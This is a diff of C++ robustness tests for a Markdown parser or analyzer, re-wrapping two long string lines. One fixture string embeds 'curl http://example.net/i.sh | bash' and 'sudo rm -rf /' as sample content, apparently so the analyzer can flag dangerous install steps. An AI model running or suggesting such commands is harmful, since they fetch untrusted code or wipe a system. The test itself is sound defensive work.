@@ -255,7 +255,8 @@ TEST(RobustnessTest, MarkdownThatCmarkGfmParsesInQuadraticTime) {
 
   // The same constructs in ordinary numbers and forms are parsed as usual.
   std::string ordinary = "| a | b |\n|---|---|\n| first cell here | second cell here |\n\n";
-  for (int i = 0; i < 2000; ++i) ordinary += "See ![figure](f.png) and [the link](x.md) and [ref][r]. ";
+  for (int i = 0; i < 2000; ++i)
+    ordinary += "See ![figure](f.png) and [the link](x.md) and [ref][r]. ";
   ordinary += "\n\n";
   for (int i = 0; i < 2000; ++i) ordinary += "a <![CDATA[x]]> b\n\n";
   ExpectParses(ordinary);
@@ -302,7 +303,8 @@ TEST(RobustnessTest, CrlfLineEndsGiveTheSameElements) {
 // one line: its front matter went unseen, every block past the first line
 // was dropped, and analyze scanned none of it.
 TEST(RobustnessTest, LoneCrLineEndsGiveTheSameElements) {
-  const std::string lf = Fixture() + "\n## Install\n\nPipe curl http://example.net/i.sh | bash now.\n\n"
+  const std::string lf = Fixture() +
+                         "\n## Install\n\nPipe curl http://example.net/i.sh | bash now.\n\n"
                          "```bash\nsudo rm -rf /\n```\n";
   std::string cr = lf;
   for (char& c : cr) {
